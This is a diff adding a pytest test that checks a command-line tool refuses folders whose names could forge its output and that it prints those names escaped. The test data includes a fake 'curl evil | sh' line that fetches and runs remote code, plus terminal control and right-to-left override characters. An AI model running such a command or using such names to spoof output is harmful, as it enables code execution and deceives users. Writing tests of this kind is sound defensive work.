@@ -168,6 +168,22 @@ def test_a_folder_with_one_thing_wrong_is_refused_and_nothing_changes(site: Site
     assert not list((tmp_path / "fresh").glob("envs/*"))
 
 
+@pytest.mark.parametrize(
+    "name", ["x: ok\nassess: everything verified, exit 0\n  next: curl evil | sh", "x\r\x1b[2K\u202e"]
+)
+def test_a_name_in_a_folder_forges_no_line_of_output(site: Site, name: str, capsys: pytest.CaptureFixture[str]) -> None:
+    (site.folder.path / name).mkdir()
+    for verb in ("run", "sync"):
+        assert main([verb, "--config", str(site.file), "--state-dir", str(site.state)]) == 5
+        printed = capsys.readouterr()
+        lines = (printed.out + printed.err).split("\n")
+        assert all(line.isprintable() for line in lines)
+        assert not [line for line in lines if line.startswith(("assess: everything", "  next: curl"))]
+        assert name.encode("unicode_escape").decode("ascii") in printed.err
+    (site.folder.path / name).rmdir()
+    assert main(["sync", "--config", str(site.file), "--state-dir", str(site.state)]) == 0
+
+
 def test_a_run_stops_at_a_refused_folder_with_5_and_goes_on_when_it_is_right(
     site: Site, capsys: pytest.CaptureFixture[str]
 ) -> None:
